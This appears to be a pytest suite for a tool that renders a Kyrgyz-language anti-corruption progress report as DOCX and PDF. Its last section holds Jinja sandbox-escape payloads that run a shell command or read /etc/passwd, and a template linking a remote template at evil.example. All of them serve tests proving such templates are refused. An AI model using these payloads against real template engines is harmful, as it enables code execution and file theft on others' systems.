"""Tests of render.report: the official DOCX, read back with python-docx (and LibreOffice for PDF)."""

from __future__ import annotations

import copy
import io
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn

from model.plan import Plan, plan_from_json
from model.progress import (CO_EXECUTOR, DONE, IN_PROGRESS, LEAD, NOT_DONE, OUTCOME_DONE,
                            OUTCOME_LABELS,
                            OUTCOME_IN_PROGRESS, OUTCOME_NO_INFO, OUTCOME_NOT_DONE,
                            OUTCOME_NOT_YET_DUE, OUTCOME_OVERDUE, OUTCOMES, Entry,
                            MeasureProgress, Progress, UnitReturn)
from render import _oxml
from render.chart import status_chart
from render.labels import LABELS
from render.report import (TEMPLATE, ReportSettings, TemplateError, ConfigError, render_report,
                           report_data)

ROOT = Path(__file__).resolve().parent.parent
YEAR = 2025
MISSING_UNITS = ("ИАБ", "Кыргызгидромет")

# What the units wrote, per measure: (outcome, lead status, {unit: (done, reasons)}).
ANSWERS = {
    "1.1.1": (OUTCOME_DONE, DONE, {"УКЖКААБ": (
        "Коррупцияга каршы экспертизаны жөнгө салуучу 14 ченемдик укуктук акт инвентаризацияланды, "
        "талдоо жыйынтыгы министрликтин жетекчилигине 2025-жылдын 20-июнунда берилди.", "")}),
    "2.1.1": (OUTCOME_OVERDUE, IN_PROGRESS, {
        "КБ": ("Кызматтык нускамалардын долбоорлору даярдалды, 36 нускама макулдашууда.",
               "Түзүмдүк бөлүмдөрдүн макулдашуусу кечиктирилди; бекитүү 2026-жылдын I кварталына "
               "жылдырылды."),
        "УКЖКААБ": ("Долбоорлорго коррупцияга каршы экспертиза жүргүзүлдү (тел. +996 312 54 11 22).",
                    "")}),
    "3.1.1": (OUTCOME_DONE, DONE, {
        "ӨӨЖААБ": ("Өрт коопсуздугу боюнча кызмат көрсөтүүлөрдүн реестри жаңыланды.", ""),
        "ӨКК": ("Текшерүүлөрдүн тартиби сайтка жарыяланды.", ""),
        "УКЖКААБ": ("Кызмат көрсөтүүлөрдүн регламенттерине экспертиза жүргүзүлдү.", "")}),
    "4.1.1": (OUTCOME_NO_INFO, None, {}),
    "6.2.1": (OUTCOME_OVERDUE, NOT_DONE, {
        "КБ": ("", "Программалык камсыздоону сатып алууга каражат бөлүнгөн жок.")}),
    "10.1.1": (OUTCOME_IN_PROGRESS, IN_PROGRESS, {
        "УКЖКААБ": ("Эл аралык уюмдар менен 3 семинар өткөрүлдү.", ""),
        "ЭАКБ": ("ПРООН менен өз ара түшүнүшүү меморандуму долбоору даярдалды.", "")}),
    "10.1.2": (OUTCOME_NOT_DONE, NOT_DONE, {
        "УКЖКААБ": ("", "Эл аралык тажрыйба алмашуу иш-сапары каржыланган жок.")}),
    "12.2.1": (OUTCOME_IN_PROGRESS, IN_PROGRESS, {
        "ММК": ("2025-жылдын I жарым жылдыгынын мониторинг отчету сайтка жайгаштырылды: "
                "https://mchs.gov.kg/anticorruption", "")}),
}


def sample_plan() -> Plan:
    """Return the sample plan's records."""
    return plan_from_json((ROOT / "samples" / "plan-ky.expected.json").read_text(encoding="utf-8"))


def sample_progress(plan: Plan, year: int = YEAR) -> Progress:
    """Return a realistic Progress for `plan` in `year`, with every outcome represented."""
    measures = []
    for m in plan.measures():
        if not m.deadline.meets_year(year):
            continue
        due = m.deadline.is_due_in(year)
        codes = [c for c in m.executors.codes if c not in MISSING_UNITS]
        if m.id in ANSWERS:
            outcome, status, texts = ANSWERS[m.id]
        elif due:
            outcome, status = OUTCOME_DONE, DONE
            texts = {c: (f"{m.id} боюнча иш аткарылды, жыйынтыгы жөнүндө маалымат берилди.", "")
                     for c in codes[:2]}
        else:
            outcome, status = OUTCOME_NOT_YET_DUE, IN_PROGRESS
            texts = {c: (f"{m.id} боюнча иш улантылууда.", "") for c in codes[:1]}
        entries = tuple(
            Entry(m.id, unit, LEAD if unit == m.executors.lead else CO_EXECUTOR,
                  status if unit == m.executors.lead else None, done=done, reasons=reasons,
                  file=f"{unit}.xlsx", row=5)
            for unit, (done, reasons) in sorted(texts.items(),
                                                key=lambda kv: m.executors.codes.index(kv[0])))
        measures.append(MeasureProgress(m.id, due, outcome, status if texts else None, entries))
    units = tuple(UnitReturn(u, u not in MISSING_UNITS, None if u in MISSING_UNITS else f"{u}.xlsx")
                  for u in plan.units())
    return Progress(year, plan.fingerprint(), plan.title, tuple(measures), units)


@pytest.fixture(scope="module")
def plan() -> Plan:
    return sample_plan()


@pytest.fixture(scope="module")
def progress(plan) -> Progress:
    return sample_progress(plan)


@pytest.fixture(scope="module")
def docx_bytes(plan, progress) -> bytes:
    settings = ReportSettings(signer_position="Башкармалыктын начальниги", signer_name="А. Асанов",
                              preparer_name="Б. Бекова", preparer_phone="0312 54 11 22")
    return render_report(plan, progress, YEAR, settings)


def main_table(doc):
    """Return the table whose header row starts with the number column label."""
    return next(t for t in doc.tables if len(t.rows) > 20)


def test_status_column_tallies_with_the_summary_for_every_outcome(docx_bytes):
    doc = Document(io.BytesIO(docx_bytes))
    statuses = [r.cells[5].text for r in main_table(doc).rows[1:] if len(r._tr.tc_lst) > 1]
    summary = next(t for t in doc.tables
                   if t.rows[0].cells[0].text == LABELS["ky"]["summary_indicator"])
    counts = {r.cells[0].text.lower(): r.cells[1].text for r in summary.rows[1:]}
    for outcome in OUTCOMES:
        label = OUTCOME_LABELS["ky"][outcome]
        assert statuses.count(label) > 0  # the sample shows every status, so each is tested
        assert counts[label.lower()] == str(statuses.count(label))


def test_one_row_per_measure_in_plan_order_with_sections(plan, progress, docx_bytes):
    doc = Document(io.BytesIO(docx_bytes))
    table = main_table(doc)
    expected = []
    for section in plan.sections:
        ids = [m.id for t in section.tasks for m in t.measures if progress.of(m.id)]
        if ids:
            expected.append(("section", LABELS["ky"]["section"].format(number=section.number,
                                                                       title=section.title)))
            expected.extend(("measure", i) for i in ids)
    got = []
    for row in table.rows[1:]:
        cells = row._tr.tc_lst
        if len(cells) == 1:
            got.append(("section", row.cells[0].text))
        else:
            got.append(("measure", row.cells[0].text))
    assert got == expected
    assert len([g for g in got if g[0] == "measure"]) == len(progress.measures)
    assert "9.1.1" not in {g[1] for g in got}  # 2026–2027: not in the year


def test_section_rows_span_the_table(docx_bytes):
    table = main_table(Document(io.BytesIO(docx_bytes)))
    columns = _oxml.grid_width(table._tbl)
    spans = [row._tr.tc_lst[0].tcPr.find(qn("w:gridSpan")) for row in table.rows[1:]
             if len(row._tr.tc_lst) == 1]
    assert spans and all(int(s.get(qn("w:val"))) == columns for s in spans)


def test_statuses_and_texts_match_progress(plan, progress, docx_bytes):
    table = main_table(Document(io.BytesIO(docx_bytes)))
    rows = {r.cells[0].text: r for r in table.rows[1:] if len(r._tr.tc_lst) > 1}
    for mp in progress.measures:
        cells = rows[mp.measure_id].cells
        assert cells[5].text == OUTCOME_LABELS["ky"][mp.outcome]
        assert plan.measure(mp.measure_id).text in cells[1].text
        assert cells[2].text == plan.measure(mp.measure_id).deadline.text
        info = [p.text for p in cells[4].paragraphs if p.text]
        wrote = [e for e in mp.entries if e.done or e.reasons]
        assert [i.split(":")[0] for i in info] == [e.unit for e in wrote]  # lead first, attributed
        for e, text in zip(wrote, info):
            assert e.done in text and e.reasons in text
    lead_first = rows["2.1.1"].cells[3].paragraphs
    assert [p.text for p in lead_first][:2] == ["КБ", "УКЖКААБ"]


def test_header_row_repeats_and_table_is_landscape(docx_bytes):
    doc = Document(io.BytesIO(docx_bytes))
    table = main_table(doc)
    assert _oxml.is_header_row(table.rows[0]._tr)
    assert [c.text for c in table.rows[0].cells] == [
        LABELS["ky"][k] for k in ("col_number", "col_measure", "col_deadline", "col_executors",
                                  "col_information", "col_status")]
    body = doc.element.body
    # the section holding the table is the first section break after it
    following = table._tbl.itersiblings()
    sect = next(p.find(qn("w:pPr")).find(qn("w:sectPr")) for p in following
                if p.tag == qn("w:p") and p.find(qn("w:pPr")) is not None
                and p.find(qn("w:pPr")).find(qn("w:sectPr")) is not None)
    index = [s._sectPr for s in doc.sections].index(sect)
    section = doc.sections[index]
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert section.page_width > section.page_height
    assert body is not None


def test_official_form(docx_bytes):
    doc = Document(io.BytesIO(docx_bytes))
    first = doc.sections[0]
    assert round(first.left_margin.mm) == 30 and round(first.right_margin.mm) == 15
    assert round(first.top_margin.mm) == 20 and round(first.bottom_margin.mm) == 20
    assert first.different_first_page_header_footer
    header_xml = first.header._element.xml
    assert "PAGE" in header_xml
    fonts = doc.styles.element.find(qn("w:docDefaults")).find(".//" + qn("w:rFonts"))
    assert {fonts.get(qn(s)) for s in _oxml.FONT_SLOTS} == {"Times New Roman"}
    assert doc.styles["Normal"].font.size.pt == 14
    table = main_table(doc)
    body_paragraph = table.rows[2].cells[1].paragraphs[-1]
    assert body_paragraph.style.font.size.pt == 12


def test_chart_summary_and_annexes(plan, progress, docx_bytes):
    doc = Document(io.BytesIO(docx_bytes))
    pictures = doc.inline_shapes
    assert len(pictures) == 1
    blip = pictures[0]._inline.graphic.graphicData.pic.blipFill.blip
    image = doc.part.related_parts[blip.embed]
    assert image.content_type == "image/png"
    data = report_data(plan, progress, YEAR)
    # the picture is the chart of this year's counts per section, and they add up to the year's
    assert image.blob == status_chart(data.bars, OUTCOME_LABELS["ky"], LABELS["ky"]["chart_axis"])
    totals = {o: sum(c.get(o, 0) for _, c in data.bars) for o in OUTCOMES}
    assert totals == progress.counts()
    text = "\n".join(p.text for p in doc.paragraphs)
    all_cells = "\n".join(c.text for t in doc.tables for r in t.rows for c in r.cells)
    counts = progress.counts()
    summary = next(t for t in doc.tables if t.rows[0].cells[0].text == LABELS["ky"]["summary_indicator"])
    by_label = {r.cells[0].text.lower(): r.cells[1].text for r in summary.rows[1:]}
    for outcome in OUTCOMES:
        assert by_label[OUTCOME_LABELS["ky"][outcome]] == str(counts[outcome])
    assert by_label[LABELS["ky"]["due"].lower()] == str(sum(m.due for m in progress.measures))
    for unit in MISSING_UNITS:
        assert plan.unit_name(unit) in all_cells
    assert "Программалык камсыздоону сатып алууга каражат бөлүнгөн жок." in all_cells
    assert "А. Асанов" in text and "0312 54 11 22" in text
    assert plan.title in text


def test_russian_labels(plan, progress):
    doc = Document(io.BytesIO(render_report(plan, progress, YEAR, ReportSettings(lang="ru"))))
    table = main_table(doc)
    assert table.rows[0].cells[5].text == LABELS["ru"]["col_status"]
    statuses = {r.cells[5].text for r in table.rows[1:] if len(r._tr.tc_lst) > 1}
    assert OUTCOME_LABELS["ru"][OUTCOME_OVERDUE] in statuses



@pytest.mark.parametrize("outcome, annex_column", [(OUTCOME_NO_INFO, "col_executors"),
                                                   (OUTCOME_OVERDUE, "col_lead")])
def test_a_measure_without_executors_shows_a_dash(plan, progress, outcome, annex_column):
    assert plan.measure("5.2.1").executors.text == ""  # the plan names no executor for it
    changed = replace(progress, measures=tuple(
        replace(mp, outcome=outcome, entries=(), status=None)
        if mp.measure_id == "5.2.1" else mp for mp in progress.measures))
    doc = Document(io.BytesIO(render_report(plan, changed, YEAR)))
    row = next(r for r in main_table(doc).rows if r.cells[0].text == "5.2.1")
    assert row.cells[3].text == "—"
    annex = next(t for t in doc.tables if len(t.columns) in (4, 5)
                 and t.rows[0].cells[3].text == LABELS["ky"][annex_column])
    row = next(r for r in annex.rows if r.cells[0].text == "5.2.1")
    assert row.cells[3].text == "—"

def _edit_template(tmp_path: Path, edit) -> Path:
    doc = Document(str(TEMPLATE))
    edit(doc)
    path = tmp_path / "edited.docx"
    doc.save(str(path))
    return path


def _main_template_table(doc):
    return next(t for t in doc.tables if "[number]" in "".join(c.text for c in t.rows[-1].cells))


def test_edited_template_label_changed_and_column_removed(tmp_path, plan, progress):
    def edit(doc):
        table = _main_template_table(doc)
        header = table.rows[0].cells
        for run in header[5].paragraphs[0].runs:
            run.text = ""
        header[5].paragraphs[0].runs[0].text = "Аткарылыш абалы"
        # remove the deadline column: its cells in every row but the spanning one, and its grid
        col = 2
        for tr in table._tbl.tr_lst:
            tcs = tr.tc_lst
            if len(tcs) > col:
                tr.remove(tcs[col])
        grid = table._tbl.tblGrid
        grid.remove(grid.gridCol_lst[col])
    path = _edit_template(tmp_path, edit)
    doc = Document(io.BytesIO(render_report(plan, progress, YEAR, template=path)))
    table = main_table(doc)
    assert [c.text for c in table.rows[0].cells][-1] == "Аткарылыш абалы"
    assert len(table.columns) == 5
    measure_rows = [r for r in table.rows[1:] if len(r._tr.tc_lst) > 1]
    assert len(measure_rows) == len(progress.measures)
    first = progress.measures[0]
    cells = measure_rows[0].cells
    assert [cells[0].text, cells[4].text] == [first.measure_id, OUTCOME_LABELS["ky"][first.outcome]]
    deadline = plan.measure(first.measure_id).deadline.text
    assert all(deadline != c.text for c in cells)
    spans = [r._tr.tc_lst[0].tcPr.find(qn("w:gridSpan")).get(qn("w:val")) for r in table.rows[1:]
             if len(r._tr.tc_lst) == 1]
    assert set(spans) == {"5"}


def _replace_in_template(tmp_path, old: str, new: str) -> Path:
    def edit(doc):
        for p in doc.paragraphs:
            if old in p.text:
                text = p.text.replace(old, new)
                for run in p.runs[1:]:
                    run.text = ""
                p.runs[0].text = text
                return
        raise AssertionError(f"{old} not in template")
    return _edit_template(tmp_path, edit)


def test_broken_tag_names_the_tag(tmp_path, plan, progress):
    path = _replace_in_template(tmp_path, "{{ title }}", "{{ title }")
    with pytest.raises(TemplateError) as exc:
        render_report(plan, progress, YEAR, template=path)
    assert str(path) in str(exc.value) and "title" in str(exc.value)


def test_unknown_name_in_tag_is_named(tmp_path, plan, progress):
    path = _replace_in_template(tmp_path, "{{ title }}", "{{ titel }}")
    with pytest.raises(TemplateError, match=r"\{\{ titel \}\}"):
        render_report(plan, progress, YEAR, template=path)


def test_unknown_label_is_named(tmp_path, plan, progress):
    path = _replace_in_template(tmp_path, "{{ L.summary_heading }}", "{{ L.summary_headin }}")
    with pytest.raises(TemplateError, match="summary_headin"):
        render_report(plan, progress, YEAR, template=path)


def test_template_without_main_table(tmp_path, plan, progress):
    def edit(doc):
        table = _main_template_table(doc)
        table._tbl.getparent().remove(table._tbl)
    with pytest.raises(TemplateError, match=r"no main table"):
        render_report(plan, progress, YEAR, template=_edit_template(tmp_path, edit))


def test_not_a_docx_template(tmp_path, plan, progress):
    bad = tmp_path / "t.docx"
    bad.write_text("hello")
    with pytest.raises(TemplateError, match="not a Word"):
        render_report(plan, progress, YEAR, template=bad)


def test_progress_of_another_year_or_plan(plan, progress):
    with pytest.raises(Exception, match="not 2026"):
        report_data(plan, progress, 2026)
    other = copy.copy(progress)
    object.__setattr__(other, "plan_fingerprint", "0" * 64)
    with pytest.raises(Exception, match="another version of the plan"):
        report_data(plan, other, YEAR)


def test_settings_from_toml(tmp_path):
    path = tmp_path / "esep.toml"
    path.write_text('[report]\nsigner_name = "А. Асанов"\nlang = "ru"\n', encoding="utf-8")
    settings = ReportSettings.from_toml(path)
    assert (settings.signer_name, settings.lang) == ("А. Асанов", "ru")
    assert settings.updated(signer_name="Б. Бекова", lang=None).signer_name == "Б. Бекова"
    path.write_text('[report]\nsigner = "x"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="unknown setting 'signer'"):
        ReportSettings.from_toml(path)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_pdf_through_libreoffice(tmp_path, plan, progress, docx_bytes):
    import pdfplumber
    from render.publish import docx_to_pdf
    (tmp_path / "report.pdf").write_bytes(docx_to_pdf(docx_bytes))
    with pdfplumber.open(tmp_path / "report.pdf") as pdf:
        pages = [(page.width > page.height, page.extract_text() or "") for page in pdf.pages]
    text = "\n".join(t for _, t in pages)
    # portrait summary, landscape table pages, portrait annexes; the table runs over several pages
    assert not pages[0][0] and pages[1][0] and not pages[-1][0]
    landscape = [i for i, (wide, _) in enumerate(pages) if wide]
    assert landscape == list(range(1, landscape[-1] + 1)) and len(landscape) >= 5
    assert 8 <= len(pages) <= 20
    # page numbers at the top from page 2; none on page 1
    assert not pages[0][1].startswith("1\n")
    assert [t.split("\n", 1)[0].strip() for _, t in pages[1:]] == [
        str(n) for n in range(2, len(pages) + 1)]
    # the header row repeats: every landscape page starts its table with the column labels
    for i in landscape:
        assert LABELS["ky"]["col_status"] in pages[i][1]
    for mp in progress.measures:
        assert mp.measure_id in text


# --- hostile templates: the sandbox and outside links ----------------------------------------

_SUBCLASSES = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
_CATCH = "{% if c.__name__ == 'catch_warnings' %}"
RCE_TAG = (_SUBCLASSES + _CATCH + "{{ c()._module.__builtins__['__import__']('os')"
           ".system('touch MARKER') }}{% endif %}{% endfor %}")
READ_TAG = (_SUBCLASSES + _CATCH + "{{ c()._module.__builtins__['open']('/etc/passwd').read() }}"
            "{% endif %}{% endfor %}")


def _template_with_paragraph(tmp_path: Path, text: str) -> Path:
    return _edit_template(tmp_path, lambda doc: doc.add_paragraph(text))


def _cli_report(tmp_path: Path, plan, progress, template: Path):
    from click.testing import CliRunner

    from esep.cli import cli
    from model.plan import plan_to_json
    from model.progress import progress_to_json
    plan_file, progress_file = tmp_path / "plan.json", tmp_path / "progress.json"
    plan_file.write_text(plan_to_json(plan), encoding="utf-8")
    progress_file.write_text(progress_to_json(progress), encoding="utf-8")
    out = tmp_path / "report.docx"
    result = CliRunner().invoke(cli, ["report", str(plan_file), "--progress", str(progress_file),
                                      "--year", str(YEAR), "--template", str(template),
                                      "-o", str(out)])
    return result, out


@pytest.mark.parametrize("kind", ["run a command", "read a file"])
def test_a_template_runs_no_code_and_reads_no_file(tmp_path, plan, progress, kind):
    marker = tmp_path / "ran"
    tag = RCE_TAG.replace("MARKER", str(marker)) if kind == "run a command" else READ_TAG
    template = _template_with_paragraph(tmp_path, tag)
    before = template.read_bytes()
    result, out = _cli_report(tmp_path, plan, progress, template)
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"Error: {template}: a tag «{_SUBCLASSES}» uses «( )», which a "
                               "report template may not")  # refused as it is read, before a call
    assert "Traceback" not in result.output
    assert not marker.exists() and not out.exists() and "root:" not in result.output
    assert template.read_bytes() == before


def test_a_template_reaches_no_global_and_changes_no_value(tmp_path, plan, progress):
    for tag in ("{{ lipsum.__globals__ }}", "{{ summary.append(1) }}", "{{ L.__init__ }}"):
        with pytest.raises(TemplateError) as exc:
            render_report(plan, progress, YEAR, template=_template_with_paragraph(tmp_path, tag))
        assert str(tmp_path / "edited.docx") in str(exc.value), tag


ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"


def _template_with_outside_links(tmp_path: Path) -> Path:
    """Return a template that attaches a remote template and shows a picture linked by path."""
    from docx.oxml import parse_xml

    from render.chart import status_chart

    def edit(doc):
        settings_part = doc.part._settings_part
        settings = settings_part.element
        rid = settings_part.rels.get_or_add_ext_rel(ATTACHED, "http://evil.example/t.dotm")
        settings.append(parse_xml(f'<w:attachedTemplate xmlns:w="{settings.nsmap["w"]}" '
                                  f'xmlns:r="{_oxml._R_NS[1:-1]}" r:id="{rid}"/>'))
        png = status_chart([("1", {OUTCOME_DONE: 1})], OUTCOME_LABELS["ky"], "x")
        doc.add_picture(io.BytesIO(png))
        blip = next(doc.element.body.iter(qn("a:blip")))
        del blip.attrib[qn("r:embed")]
        blip.set(qn("r:link"), doc.part.rels.get_or_add_ext_rel(IMAGE, "file://server/share/x.png"))
        doc.add_paragraph().add_run("site")
        doc.part.relate_to("https://mchs.gov.kg", _oxml._HYPERLINK, is_external=True)
    return _edit_template(tmp_path, edit)


def test_outside_links_of_a_template_are_dropped_with_a_warning(tmp_path, plan, progress):
    import zipfile

    from render.report import render_data
    template = _template_with_outside_links(tmp_path)
    warnings: list[str] = []
    report = render_data(report_data(plan, progress, YEAR), template, warnings.append)
    assert len(warnings) == 2 and all(w.startswith(f"{template}: the template links") for w in warnings)
    assert any("evil.example" in w for w in warnings) and any("share/x.png" in w for w in warnings)
    with zipfile.ZipFile(io.BytesIO(report)) as z:
        rels = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".rels"))
        assert "evil.example" not in rels and "x.png" not in rels
        assert "https://mchs.gov.kg" in rels  # a hyperlink is fetched only when clicked
        assert b"attachedTemplate" not in z.read("word/settings.xml")
        assert b"r:link" not in z.read("word/document.xml")
    Document(io.BytesIO(report))  # still a document python-docx opens
